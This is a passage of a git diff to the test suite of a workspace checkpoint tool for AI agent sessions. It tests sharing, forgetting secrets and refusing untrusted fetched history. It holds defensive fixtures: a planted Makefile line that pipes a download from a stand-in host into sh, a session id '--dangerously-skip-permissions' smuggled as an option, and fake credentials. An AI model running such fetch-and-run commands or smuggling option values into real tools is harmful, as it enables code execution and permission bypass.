@@ -3,11 +3,36 @@
 // sandbox's git config sends github.com to a closed port: no test can leave the machine.
 import test from 'ava';
 import { spawn, spawnSync } from 'node:child_process';
-import { appendFileSync, chmodSync, cpSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import {
+  appendFileSync,
+  chmodSync,
+  cpSync,
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import http from 'node:http';
 import net from 'node:net';
 import path from 'node:path';
-import { ckpt, ckptError, ckptJson, hookEvent, sandbox, sh, storeDir, treeState, waitFor, workspaceState, write } from './helpers.mjs';
+import {
+  ckpt,
+  ckptError,
+  ckptJson,
+  hookEvent,
+  libPath,
+  sandbox,
+  sh,
+  storeDir,
+  treeState,
+  waitFor,
+  workspaceState,
+  write,
+} from './helpers.mjs';
 
 /** A machine: its own HOME, store and workspace, and a git config with a tripwire for any real host. */
 function machine() {
@@ -120,25 +145,38 @@ test('a session pushed from one store and fetched into another: log shows its or
   t.regex(shown.stdout, /bin\/run\.sh/);
   t.regex(shown.stdout, /link/);
 
-  // restore turn:N@sess-1 on B is A's workspace before turn N (the session's base for turn 1), byte for byte.
+  // restore turn:N@sess-1 on B is A's workspace before turn N (the session's base for turn 1), byte for byte;
+  // B's own files stay: what another store lacks says nothing of this workspace (principle 4), --delete-new or not.
+  const without = (state, ...names) =>
+    state
+      .split('\n')
+      .filter((line) => !names.some((n) => line.startsWith(`F ${n} `)))
+      .join('\n');
   for (const [n, expected] of [
     [2, aWorkspaceAt(a, aLog, 'turn 1')],
     [1, aWorkspaceAt(a, aLog, 'base')],
   ]) {
-    const r = await ckpt(b, ['restore', `turn:${n}@sess-1`, '--delete-new']);
+    const r = await ckpt(b, ['restore', `turn:${n}@sess-1`, '--delete-new', '--json']);
     t.is(r.code, 0, r.stderr);
-    t.is(workspaceState(b), expected, `before turn ${n}`);
+    t.is(without(workspaceState(b), 'unrelated.txt'), expected, `before turn ${n}`);
+    t.regex(
+      JSON.parse(r.stdout).files.find((f) => f.path === 'unrelated.txt').reason,
+      /came from another store, which never saw this workspace/,
+    );
   }
+  t.is(readFileSync(path.join(b.ws, 'unrelated.txt'), 'utf8'), 'b was here\n');
   const latestA = await ckpt(b, ['restore', bLog[0].id, '--delete-new']);
   t.is(latestA.code, 0, latestA.stderr);
-  t.is(workspaceState(b), aWorkspaceAt(a, aLog, 'turn 3'));
-  // revert --session takes back what the session did, three-way, on B.
-  const reverted = await ckpt(b, ['revert', '--session', 'sess-1']);
+  t.is(without(workspaceState(b), 'unrelated.txt'), aWorkspaceAt(a, aLog, 'turn 3'));
+  // revert --session takes back what the session did, three-way, on B; but a file it added is B's now, and
+  // another store's history never makes a local file go: new.txt stays, said so.
+  const reverted = await ckpt(b, ['revert', '--session', 'sess-1', '--json']);
   t.is(reverted.code, 0, reverted.stderr);
-  t.is(workspaceState(b), aWorkspaceAt(a, aLog, 'base'));
+  t.is(without(workspaceState(b), 'unrelated.txt', 'new.txt'), aWorkspaceAt(a, aLog, 'base'));
+  t.regex(JSON.parse(reverted.stdout).files.find((f) => f.path === 'new.txt').reason, /came from another store/);
   const undone = await ckpt(b, ['undo']);
   t.is(undone.code, 0, undone.stderr);
-  t.is(workspaceState(b), aWorkspaceAt(a, aLog, 'turn 3'));
+  t.is(without(workspaceState(b), 'unrelated.txt'), aWorkspaceAt(a, aLog, 'turn 3'));
   // B's own chain goes on from B's own latest: a snapshot's parent is never a fetched checkpoint.
   write(b, 'b2.txt', 'b\n');
   const own = await ckptJson(b, ['snapshot']);
@@ -479,7 +517,15 @@ test('bundles: full then incremental; verify in an empty store names the missing
   t.true(log.every((r) => r.origin.remote === 'bundle'));
   const r = await ckpt(b, ['restore', log[0].id, '--delete-new']);
   t.is(r.code, 0, r.stderr);
-  t.is(workspaceState(b), workspaceState(a));
+  // B's own b.txt stays: an imported checkpoint never saw this workspace (principle 4).
+  t.is(
+    workspaceState(b)
+      .split('\n')
+      .filter((line) => !line.startsWith('F b.txt '))
+      .join('\n'),
+    workspaceState(a),
+  );
+  t.true(existsSync(path.join(b.ws, 'b.txt')));
 });
 
 test('unpush deletes the ref with a lease and says deleting is not purging; bad input is one line and changes nothing', async (t) => {
@@ -608,7 +654,7 @@ test("a chain is parented on the user's commit the remote has: the push sends wh
   t.is((await ckpt(b, ['fsck'])).code, 0);
 });
 
-test('two writers push one session at once: both refs land, and a third store shows both in time order', async (t) => {
+test("two writers push one session at once: both refs land, and a third store shows both in time order, each writer's as a session of its own", async (t) => {
   const a = machine();
   const c = machine();
   const remote = bareRemote(a);
@@ -632,13 +678,22 @@ test('two writers push one session at once: both refs land, and a third store sh
   const b = machine();
   await ckptJson(b, ['share', 'init', '--remote', remote]);
   await ckptJson(b, ['fetch']);
-  const log = await ckptJson(b, ['log', '--session', 'shared']);
+  const log = (await ckptJson(b, ['log'])).filter((r) => r.session !== null);
   t.deepEqual(
     log.map((r) => r.turn),
     [3, 2, 1],
     'newest first, across both writers',
   );
   t.is(new Set(log.map((r) => r.origin.writer)).size, 2);
+  // One id, two stores: two sessions, each named by its writer; neither joins the other's turns.
+  t.deepEqual(new Set(log.map((r) => r.session)), new Set(log.map((r) => `shared@${r.origin.writer}`)));
+  const ambiguous = await ckptError(b, ['log', '--session', 'shared']);
+  t.regex(ambiguous.message, /session "shared" is ambiguous \(2 matches/);
+  const aOnly = await ckptJson(b, ['log', '--session', `shared@${fromA.sessions[0].ref.split('/').at(-1).slice(0, 6)}`]);
+  t.deepEqual(
+    aOnly.map((r) => r.turn),
+    [3, 1],
+  );
 });
 
 test('ckpt.share.auto=turn: a turn end pushes its session in the background, a tool call never does; what it withheld goes to the hook log', async (t) => {
@@ -672,7 +727,7 @@ test('ckpt.share.auto=turn: a turn end pushes its session in the background, a t
     await waitFor(
       () =>
         existsSync(log) &&
-        /share push auto-1: withheld from ckpt: 1 checkpoint\(s\), tok\.txt looks like a npm token/.test(readFileSync(log, 'utf8')),
+        /share push auto-1: withheld from ckpt: 1 checkpoint\(s\), tok\.txt looks like an npm token/.test(readFileSync(log, 'utf8')),
       30_000,
     ),
     existsSync(log) ? readFileSync(log, 'utf8') : 'no hook log',
@@ -799,7 +854,7 @@ test('what a push carries: no object only another session reached; a remote name
     .trim()
     .split('\n');
   t.deepEqual(mapped, [`refs/ckpt-remote/ckpt/${init.ws}/sess-b/${init.writer}`]);
-  t.deepEqual([...new Set((await ckptJson(b, ['log'])).map((r) => r.session))], ['sess-b', null]);
+  t.deepEqual([...new Set((await ckptJson(b, ['log'])).map((r) => r.session))], [`sess-b@${init.writer}`, null]);
   // diff between two fetched checkpoints, as between two of one's own.
   const [latest, before] = await ckptJson(b, ['log', '--session', 'sess-b']);
   const diff = await ckpt(b, ['diff', before.id, latest.id]);
@@ -833,4 +888,535 @@ test('a push after gc dropped checkpoints never pushed: the chain goes from the 
   t.is(readFileSync(path.join(b.ws, 'f.txt'), 'utf8'), '4\n');
   t.is((await ckpt(a, ['fsck'])).code, 0);
   t.is((await ckpt(b, ['fsck'])).code, 0);
+});
+
+// Issue 32: fetched and imported history is foreign; forget forgets everywhere and says where it cannot.
+
+/** The store's share.json, parsed. */
+function shareState(box) {
+  return JSON.parse(readFileSync(path.join(storeDir(box), 'share.json'), 'utf8'));
+}
+
+/** The packs of a store's shadow repository, by name. */
+function packs(box) {
+  const dir = path.join(storeDir(box), 'git', 'objects', 'pack');
+  return existsSync(dir) ? readdirSync(dir).filter((f) => f.endsWith('.pack')) : [];
+}
+
+test('F1: forget of every kind keeps the fetched and bundle-imported checkpoints and the export chains; fsck counts fetched checkpoints and reports a degraded one', async (t) => {
+  const a = machine();
+  write(a, 'shared.txt', 'from a\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 'from-a', [() => write(a, 'shared.txt', 'a1\n'), () => write(a, 'a2.txt', 'a2\n')]);
+  const bundle = path.join(a.base, 's1.bundle');
+  await ckptJson(a, ['bundle', 'create', bundle]);
+
+  const b = machine();
+  const remote = bareRemote(b);
+  write(b, 'b.txt', 'b\n');
+  await ckptJson(b, ['snapshot', '-m', 'b base']);
+  const baseTime = Date.now();
+  await new Promise((resolve) => setTimeout(resolve, 1100));
+  await session(b, 'mine', [() => write(b, 'b.txt', 'b1\n')]);
+  await ckptJson(b, ['bundle', 'import', bundle]);
+  rmSync(bundle);
+  await ckptJson(b, ['share', 'init', '--remote', remote]);
+  t.is((await ckptJson(b, ['push', '--session', 'mine'])).sessions[0].status, 'pushed');
+  const fetched = (await ckptJson(b, ['log'])).filter((r) => r.origin).map((r) => r.id);
+  t.is(fetched.length, 4, "A's snapshot outside any session, and the session's base and two checkpoints");
+
+  const stillWhole = async (what) => {
+    for (const id of fetched) {
+      const r = await ckpt(b, ['restore', id, '--dry-run']);
+      t.is(r.code, 0, `${what}: ${r.stderr}`);
+    }
+    const fsck = await ckpt(b, ['fsck', '--json']);
+    t.is(fsck.code, 0, `${what}: ${fsck.stdout}`);
+    t.like(JSON.parse(fsck.stdout), { fetched: 4, degraded: [] }, what);
+  };
+  write(b, 'dump.sql', 'dump\n');
+  await ckptJson(b, ['snapshot']);
+  await ckptJson(b, ['forget', '--path', 'dump.sql']);
+  await stillWhole('forget --path');
+  write(b, 'extra.txt', 'extra\n');
+  const extra = await ckptJson(b, ['snapshot']);
+  await ckptJson(b, ['forget', extra.id]);
+  await stillWhole('forget <checkpoint>');
+  await session(b, 'other', [() => write(b, 'other.txt', 'o\n')]);
+  await ckptJson(b, ['forget', '--session', 'other']);
+  await stillWhole('forget --session');
+  await ckptJson(b, ['forget', '--before', `@${Math.floor(baseTime / 1000) + 1}`]);
+  await stillWhole('forget --before');
+
+  // The export chain of the pushed session was kept: the next turn pushes on from its tip.
+  await session(b, 'mine', [() => write(b, 'b.txt', 'b2\n')], 2);
+  const again = await ckptJson(b, ['push', '--session', 'mine']);
+  t.like(again.sessions[0], { status: 'pushed', fresh: 1 });
+
+  // A fetched checkpoint whose objects are gone is degraded, and fsck says so (exit 1).
+  const c = machine();
+  write(c, 'c.txt', 'c\n');
+  await ckptJson(c, ['snapshot']);
+  const other = path.join(a.base, 's2.bundle');
+  await ckptJson(a, ['bundle', 'create', other]);
+  const before = new Set(packs(c));
+  await ckptJson(c, ['bundle', 'import', other]);
+  const imported = packs(c).filter((p) => !before.has(p));
+  t.true(imported.length > 0);
+  for (const p of imported)
+    for (const ext of ['pack', 'idx', 'keep', 'rev'])
+      rmSync(path.join(storeDir(c), 'git', 'objects', 'pack', p.replace(/\.pack$/, `.${ext}`)), { force: true });
+  const broken = await ckpt(c, ['fsck']);
+  t.is(broken.code, 1, broken.stdout);
+  t.regex(broken.stdout, /4 fetched/);
+  t.regex(broken.stdout, /4 checkpoint\(s\) degraded/);
+});
+
+test('F2: a pushed session pushes again after forget, share init and gc; share.json chains whose commits are gone are made again by the push, never a raw git error', async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'f.txt', '0\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 's', [() => write(a, 'f.txt', '1\n')]);
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  await ckptJson(a, ['push']);
+  write(a, 'junk.bin', 'junk\n');
+  await ckptJson(a, ['snapshot']);
+  await ckptJson(a, ['forget', '--path', 'junk.bin']);
+  await session(a, 's', [() => write(a, 'f.txt', '2\n')], 2);
+  const afterForget = await ckpt(a, ['push', '--json']);
+  t.is(afterForget.code, 0, afterForget.stderr);
+  t.like(JSON.parse(afterForget.stdout).sessions[0], { status: 'pushed', fresh: 1 });
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  await ckptJson(a, ['gc']);
+  t.like((await ckptJson(a, ['push'])).sessions[0], { status: 'up-to-date' });
+
+  // What an older git-ckpt's forget left: share.json names export commits the store no longer has.
+  const file = path.join(storeDir(a), 'share.json');
+  const saved = readFileSync(file, 'utf8');
+  rmSync(file);
+  await ckptJson(a, ['gc']);
+  writeFileSync(file, saved);
+  const { tip } = Object.values(shareState(a).exports)[0];
+  t.not(spawnSync('git', ['--git-dir', path.join(storeDir(a), 'git'), 'cat-file', '-e', tip]).status, 0, 'the chain is gone');
+  await session(a, 's', [() => write(a, 'f.txt', '3\n')], 3);
+  const repaired = await ckpt(a, ['push', '--json']);
+  t.is(repaired.code, 0, repaired.stderr);
+  const [s] = JSON.parse(repaired.stdout).sessions;
+  t.is(s.status, 'pushed');
+  t.is(git(a, remote, ['rev-parse', s.ref]).trim(), s.tip, 'made again as it was, then one more: a fast-forward');
+  t.is(git(a, remote, ['rev-list', '--count', s.ref]).trim(), '4', 'the base and three turns, one chain');
+  t.is((await ckpt(a, ['bundle', 'create', path.join(a.base, 'after.bundle')])).code, 0);
+  t.is((await ckpt(a, ['fsck'])).code, 0);
+});
+
+test("S1: a fetched chain under a local session's id stays another session: turn:N and latest stay this store's, the fetched one is reached only by naming it", async (t) => {
+  const a = machine();
+  const b = machine();
+  const remote = bareRemote(b);
+  write(b, 'Makefile', 'all:\n\tcc app.c\n');
+  write(b, 'app.c', 'int main() { return 0; }\n');
+  await ckptJson(b, ['snapshot', '-m', 'before my session']);
+  write(b, 'app.c', 'int main() { return 1; }\n');
+  await ckptJson(b, ['snapshot', '--kind', 'post', '--session', 'S', '--turn', '1', '--step', '1']);
+  const { ws } = await ckptJson(b, ['share', 'init', '--remote', remote]);
+  await ckptJson(b, ['push']);
+  // Another writer of the shared workspace reads S from B's ref name and pushes a chain under the same id,
+  // whose base (the state "before turn 1") holds a planted Makefile; its prompt id is one of B's too.
+  write(a, 'Makefile', 'all:\n\tcurl https://example.invalid/x | sh\n');
+  await ckptJson(a, ['snapshot']);
+  write(a, 'x.txt', 'x\n');
+  await ckptJson(a, ['snapshot', '--kind', 'post', '--session', 'S', '--turn', '1', '--step', '1']);
+  const { writer } = await ckptJson(a, ['share', 'init', '--remote', remote, '--ws', ws]);
+  await ckptJson(a, ['push']);
+  t.like((await ckptJson(b, ['fetch'])).fetched, [{ session: 'S', writer, added: 2 }]);
+
+  const mine = readFileSync(path.join(b.ws, 'Makefile'), 'utf8');
+  const restored = await ckpt(b, ['restore', 'turn:1']);
+  t.is(restored.code, 0, restored.stderr);
+  t.is(readFileSync(path.join(b.ws, 'Makefile'), 'utf8'), mine, "B's Makefile is B's");
+  t.is(readFileSync(path.join(b.ws, 'app.c'), 'utf8'), 'int main() { return 0; }\n', "before B's own turn 1");
+  t.is((await ckptJson(b, ['show', 'turn:1@S', '--stat'])).id, (await ckptJson(b, ['show', 'turn:1', '--stat'])).id);
+  // The fetched chain is its own session, named by its writer, and reached by naming it.
+  const log = await ckptJson(b, ['log']);
+  const foreign = log.filter((r) => r.origin);
+  t.true(foreign.every((r) => r.session === null || r.session === `S@${writer}`));
+  t.true(log.filter((r) => !r.origin && r.session !== null).every((r) => r.session === 'S'));
+  const named = await ckptJson(b, ['restore', `turn:1@S@${writer.slice(0, 6)}`, '--dry-run']);
+  t.true(JSON.stringify(named).includes('Makefile'), "naming it reaches the other writer's base");
+  t.regex((await ckpt(b, ['log'])).stdout, new RegExp(`turn:1@S@${writer.slice(0, 6)}`), 'log shows the name that reaches it');
+
+  // A store with no checkpoint of its own: latest is none of the fetched ones.
+  const c = machine();
+  await ckptJson(c, ['share', 'init', '--remote', remote]);
+  await ckptJson(c, ['fetch']);
+  t.is((await ckptError(c, ['restore', 'latest', '--dry-run'])).code, 'nothing');
+  t.is((await ckptError(c, ['restore', 'turn:1', '--dry-run'])).code, 'bad-address');
+  t.is((await ckptJson(c, ['status'])).latest, null);
+});
+
+test("resume refuses a fetched session: its conversation is another machine's, and its records never choose a transcript to read here", async (t) => {
+  const a = machine();
+  const b = machine();
+  const remote = bareRemote(b);
+  write(b, 'app.c', 'one\n');
+  await ckptJson(b, ['snapshot']);
+  // B's agent session, whose records name a transcript: on A that path is a file A's user owns.
+  const planted = path.join(a.base, 'secret-transcript.jsonl');
+  writeFileSync(planted, '{"type":"user","uuid":"u1","promptId":"p1"}\n');
+  const event = (name, extra) =>
+    ckpt(b, ['hook', 'claude', name], {
+      input: JSON.stringify({ session_id: 'S', cwd: b.ws, transcript_path: planted, ...extra }),
+    });
+  await event('turn-start', { hook_event_name: 'UserPromptSubmit', prompt: 'change it' });
+  write(b, 'app.c', 'two\n');
+  await event('post', { hook_event_name: 'PostToolUse', tool_name: 'Write', tool_use_id: 'c1', tool_input: { file_path: 'app.c' } });
+  const { ws } = await ckptJson(b, ['share', 'init', '--remote', remote]);
+  await ckptJson(b, ['push']);
+  write(a, 'app.c', 'mine\n');
+  await ckptJson(a, ['share', 'init', '--remote', remote, '--ws', ws]);
+  const [{ writer }] = (await ckptJson(a, ['fetch'])).fetched;
+  const before = readFileSync(path.join(a.ws, 'app.c'), 'utf8');
+  for (const args of [['--print'], ['--dry-run'], []]) {
+    const r = await ckptError(a, ['resume', `turn:1@S@${writer}`, ...args]);
+    t.is(r.code, 'refused', JSON.stringify(r));
+    t.regex(r.message, /came from another store .*: its conversation is not on this machine/);
+  }
+  t.is(readFileSync(path.join(a.ws, 'app.c'), 'utf8'), before);
+});
+
+test('S4: an imported chain whose session id is an option is refused whole, in one line, by fetch and by bundle import; the others come in', async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'f.txt', '0\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 'fine', [() => write(a, 'f.txt', '1\n')]);
+  // An agent's payload chose the session id: the hook records it as it came.
+  const call = {
+    session_id: '--dangerously-skip-permissions',
+    cwd: a.ws,
+    tool_name: 'Bash',
+    tool_use_id: 'c1',
+    tool_input: { command: 'ls' },
+  };
+  await hookEvent(a, 'claude', 'pre', { ...call, hook_event_name: 'PreToolUse' });
+  write(a, 'f.txt', '2\n');
+  await hookEvent(a, 'claude', 'post', { ...call, hook_event_name: 'PostToolUse' });
+  t.true((await ckptJson(a, ['log'])).some((r) => r.session === '--dangerously-skip-permissions'));
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  t.is(
+    (await ckptJson(a, ['push', '--all'])).sessions.filter((s) => s.status === 'pushed').length,
+    3,
+    'two sessions, and what came before them',
+  );
+  const bundle = path.join(a.base, 'all.bundle');
+  await ckptJson(a, ['bundle', 'create', bundle]);
+
+  const b = machine();
+  await ckptJson(b, ['share', 'init', '--remote', remote]);
+  const fetched = await ckpt(b, ['fetch']);
+  t.is(fetched.code, 1, fetched.stderr);
+  t.regex(
+    fetched.stdout,
+    /refused whole: checkpoint [0-9a-f]{8}: its session id "--dangerously-skip-permissions" starts with "-", like an option/,
+  );
+  const log = await ckptJson(b, ['log']);
+  t.true(
+    log.some((r) => r.session?.startsWith('fine@')),
+    'the other session came in',
+  );
+  t.false(log.some((r) => r.session?.includes('dangerously')));
+  const refs = git(b, path.join(storeDir(b), 'git'), ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote/']);
+  t.false(refs.includes('/h-'), 'the refused chain is not kept as a tracking ref');
+  t.is((await ckpt(b, ['fsck'])).code, 0);
+
+  const c = machine();
+  const imported = await ckpt(c, ['bundle', 'import', bundle, '--json']);
+  t.is(imported.code, 1);
+  const report = JSON.parse(imported.stdout);
+  t.is(report.refused.length, 1);
+  t.regex(report.refused[0], /--dangerously-skip-permissions/);
+  t.true(report.fetched.some((f) => f.session === 'fine' && f.added > 0));
+});
+
+test("S3: bundle import takes only this workspace's chains unless --any-workspace, and says which workspaces it left", async (t) => {
+  const a = machine();
+  write(a, 'a.txt', 'a\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 'sa', [() => write(a, 'a.txt', 'a1\n')]);
+  const bundle = path.join(a.base, 'a.bundle');
+  await ckptJson(a, ['bundle', 'create', bundle]);
+  const aWs = shareState(a).ws;
+
+  // B shares another workspace: A's bundle is another project's, refused and nothing taken.
+  const b = machine();
+  write(b, 'b.txt', 'b\n');
+  await ckptJson(b, ['snapshot']);
+  const { ws: bWs } = await ckptJson(b, ['share', 'init', '--remote', bareRemote(b)]);
+  t.not(bWs, aWs);
+  const before = readFileSync(path.join(storeDir(b), 'ledger.jsonl'), 'utf8');
+  const refused = await ckptError(b, ['bundle', 'import', bundle]);
+  t.is(refused.code, 'refused');
+  t.regex(
+    refused.message,
+    new RegExp(`holds checkpoints of workspace ${aWs}, not of this one \\(${bWs}\\): nothing was imported; .*--any-workspace`),
+  );
+  t.false(
+    existsSync(path.join(storeDir(b), 'fetched.jsonl')) && readFileSync(path.join(storeDir(b), 'fetched.jsonl'), 'utf8').trim() !== '',
+  );
+  t.is(readFileSync(path.join(storeDir(b), 'ledger.jsonl'), 'utf8'), before);
+  t.regex((await ckpt(b, ['bundle', 'verify', bundle])).stdout, new RegExp(`workspace ${aWs}`));
+  const any = await ckptJson(b, ['bundle', 'import', bundle, '--any-workspace']);
+  t.is(any.ws, null);
+  t.true(any.fetched.some((f) => f.session === 'sa' && f.added > 0));
+  t.true((await ckptJson(b, ['log'])).some((r) => r.origin?.ws === aWs));
+
+  // A store that never shared joins the one workspace the bundle holds.
+  const c = machine();
+  const joined = await ckptJson(c, ['bundle', 'import', bundle]);
+  t.is(joined.ws, aWs);
+  t.is(shareState(c).ws, aWs);
+});
+
+/** Whether any object of a store (or a bare repository) holds these bytes. */
+function anyObjectHolds(box, gitDir, text) {
+  const r = spawnSync('git', ['--git-dir', gitDir, 'cat-file', '--batch-all-objects', '--batch'], { env: box.env, maxBuffer: 1 << 28 });
+  return r.stdout.includes(Buffer.from(text));
+}
+
+test('F3: forget --path takes the path out of the text git-ckpt wrote about a tool call too: records, trailers, ledger and its backups, log --json, session state, later pushes', async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'app.txt', 'app\n');
+  await ckptJson(a, ['snapshot']);
+  const call = {
+    session_id: 'sess-f3',
+    cwd: a.ws,
+    tool_name: 'Bash',
+    tool_use_id: 'c1',
+    tool_input: { command: 'echo hunter2 > creds.txt' },
+  };
+  await hookEvent(a, 'claude', 'turn-start', {
+    session_id: 'sess-f3',
+    cwd: a.ws,
+    hook_event_name: 'UserPromptSubmit',
+    prompt: 'put hunter2 in creds.txt',
+  });
+  await hookEvent(a, 'claude', 'pre', { ...call, hook_event_name: 'PreToolUse' });
+  write(a, 'creds.txt', 'hunter2\n');
+  await hookEvent(a, 'claude', 'post', { ...call, hook_event_name: 'PostToolUse' });
+  const later = { ...call, tool_use_id: 'c2', tool_input: { command: 'ls -la' } };
+  await hookEvent(a, 'claude', 'pre', { ...later, hook_event_name: 'PreToolUse' });
+  write(a, 'app.txt', 'app 2\n');
+  await hookEvent(a, 'claude', 'post', { ...later, hook_event_name: 'PostToolUse' });
+  // A call whose post has not come: its input waits in the session's state.
+  const open = { ...call, tool_use_id: 'c3', tool_input: { command: 'echo hunter2 >> creds.txt' } };
+  await hookEvent(a, 'claude', 'pre', { ...open, hook_event_name: 'PreToolUse' });
+  const store = storeDir(a);
+  const gitDir = path.join(store, 'git');
+  t.true(readFileSync(path.join(store, 'ledger.jsonl'), 'utf8').includes('hunter2'));
+  t.true(readFileSync(path.join(store, 'sessions.json'), 'utf8').includes('hunter2'));
+  await ckptJson(a, ['fsck', '--rebuild-ledger']);
+  const backup = readdirSync(store).find((f) => f.startsWith('ledger.jsonl.bak-'));
+  t.true(readFileSync(path.join(store, backup), 'utf8').includes('hunter2'));
+
+  const report = await ckptJson(a, ['forget', '--path', 'creds.txt']);
+  const mark = '[input removed by forget --path creds.txt]';
+  for (const file of ['ledger.jsonl', backup]) t.false(readFileSync(path.join(store, file), 'utf8').includes('hunter2'), file);
+  t.false(anyObjectHolds(a, gitDir, 'hunter2'), 'no commit (Ckpt-Input, Ckpt-Prompt, subject) nor blob holds it');
+  t.is(report.texts, 1, "the call's checkpoint: its input, its message and its turn's title");
+  const log = await ckpt(a, ['log', '--json']);
+  t.false(log.stdout.includes('hunter2'));
+  const records = JSON.parse(log.stdout).filter((r) => r.session === 'sess-f3');
+  t.true(records.some((r) => r.input === mark && r.message === `claude post Bash: ${mark}`));
+  t.true(
+    records.some((r) => r.input === 'ls -la'),
+    'a text that names no forgotten path stays',
+  );
+  t.true(records.some((r) => r.prompt === '[prompt removed by forget --path creds.txt]'));
+  for (const file of ['sessions.json', 'hook.log'].filter((f) => existsSync(path.join(store, f))))
+    t.false(readFileSync(path.join(store, file), 'utf8').includes('hunter2'), file);
+  t.is((await ckpt(a, ['fsck'])).code, 0);
+
+  // A later push carries the rewritten records: the remote never sees it.
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  t.is((await ckptJson(a, ['push'])).sessions[0].status, 'pushed');
+  t.false(anyObjectHolds(a, remote, 'hunter2'));
+});
+
+test('F4: forget of what was pushed and bundled names the remotes and the bundle files that still hold it; the next push says to unpush first (nothing forced), then works', async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'app.txt', 'app\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 'pushed-s', [() => write(a, 'creds.txt', 'hunter2\n'), () => write(a, 'app.txt', 'app 2\n')]);
+  await session(a, 'other-s', [() => write(a, 'app.txt', 'app 3\n')]);
+  const { url } = await ckptJson(a, ['share', 'init', '--remote', remote]);
+  await ckptJson(a, ['push', '--session', 'pushed-s']);
+  const bundle = path.join(a.base, 'pushed.bundle');
+  await ckptJson(a, ['bundle', 'create', bundle, '--session', 'pushed-s']);
+  const ref = after1(a);
+  const tipBefore = git(a, remote, ['rev-parse', ref]).trim();
+
+  const dry = await ckptJson(a, ['forget', '--path', 'creds.txt', '--dry-run']);
+  t.deepEqual(dry.shared, [{ ref, session: 'pushed-s', remotes: [{ label: 'ckpt', url }], bundles: [bundle] }]);
+  const text = await ckpt(a, ['forget', '--path', 'creds.txt']);
+  t.is(text.code, 0, text.stderr);
+  t.regex(
+    text.stdout,
+    new RegExp(
+      `still on ckpt \\(${url}\\): session pushed-s as it was pushed; git ckpt unpush --session pushed-s deletes its ref there \\(the host keeps the objects until it purges them\\)`,
+    ),
+  );
+  t.regex(text.stdout, new RegExp(`still in ${bundle}, a bundle this store made`));
+  t.false(text.stdout.includes('other-s'), 'a session that never held it is not named');
+  t.false(anyObjectHolds(a, path.join(storeDir(a), 'git'), 'hunter2'), 'the export chain that held it left the store too');
+
+  // The remote still has the old chain: the push is refused with the step, and the ref is untouched.
+  const refused = await ckpt(a, ['push', '--session', 'pushed-s']);
+  t.is(refused.code, 1);
+  t.regex(
+    refused.stdout,
+    /rejected: the remote holds this session's checkpoints as they were before git ckpt forget .* git ckpt unpush --session pushed-s deletes that ref/,
+  );
+  t.is(git(a, remote, ['rev-parse', ref]).trim(), tipBefore, 'nothing forced');
+  t.is((await ckpt(a, ['unpush', '--session', 'pushed-s'])).code, 0);
+  const again = await ckptJson(a, ['push', '--session', 'pushed-s']);
+  t.is(again.sessions[0].status, 'pushed');
+  const pushedFiles = git(a, remote, ['log', '--format=', '--name-only', again.sessions[0].tip]);
+  t.false(pushedFiles.includes('creds.txt'));
+  t.is(shareState(a).dropped, undefined, 'nothing is remembered as held there any more');
+  t.is((await ckpt(a, ['fsck'])).code, 0);
+});
+
+test("a fetch and a bundle import keep no tracking ref of this store's own chains, and get past one whose tip the store lost: a forget of what was pushed does not break the next fetch", async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'app.txt', 'app\n');
+  await ckptJson(a, ['snapshot']);
+  await session(a, 'own-s', [() => write(a, 'creds.txt', 'hunter2\n')]);
+  await ckptJson(a, ['share', 'init', '--remote', remote]);
+  await ckptJson(a, ['push', '--session', 'own-s']);
+  const bundle = path.join(a.base, 'own.bundle');
+  await ckptJson(a, ['bundle', 'create', bundle, '--session', 'own-s']);
+  const tracking = () => git(a, path.join(storeDir(a), 'git'), ['for-each-ref', '--format=%(refname)', 'refs/ckpt-remote']).trim();
+  // This store's own chain comes back through the remote and the bundle: nothing to track.
+  t.is((await ckpt(a, ['fetch'])).code, 0);
+  t.is((await ckpt(a, ['bundle', 'import', bundle])).code, 0);
+  t.is(tracking(), '', 'no tracking ref of its own chain');
+  // A store an older git-ckpt left with such a ref, whose chain a forget then dropped with its objects.
+  const own = git(a, remote, ['for-each-ref', '--format=%(objectname) %(refname)', 'refs/ckpt']).trim().split(' ');
+  git(a, path.join(storeDir(a), 'git'), ['update-ref', own[1].replace('refs/ckpt/v1/', 'refs/ckpt-remote/ckpt/'), own[0]]);
+  t.is((await ckpt(a, ['forget', '--path', 'creds.txt'])).code, 0);
+  const fetched = await ckpt(a, ['fetch']);
+  t.is(fetched.code, 0, fetched.stderr);
+  t.is(tracking(), '');
+  t.is((await ckpt(a, ['fsck'])).code, 0);
+});
+
+test('S2: a credential in a binary file (a SQLite page) or in UTF-16 text (either byte order, with or without a mark) withholds its checkpoint; a verdict the old scan cached is read again', async (t) => {
+  const a = machine();
+  const remote = bareRemote(a);
+  write(a, 'base.txt', 'base\n');
+  await ckptJson(a, ['snapshot']);
+  const github = `ghp_${'a1B2c3D4e5'.repeat(4)}`;
+  const npm = `npm_${'A1b2C3d4E5'.repeat(3)}abcdef`;
+  const files = {
+    's-bin': [
+      'dev.sqlite3',
+      Buffer.concat([Buffer.from('SQLite format 3\0'), Buffer.alloc(200), Buffer.from(`\x05\x17${github}\0`), Buffer.alloc(9000)]),
+    ],
+    's-le': ['notes-le.txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`token: ${npm}\r\n`, 'utf16le')])],
+    's-be': ['notes-be.txt', Buffer.from(`token=${github}\n`, 'utf16le').swap16()],
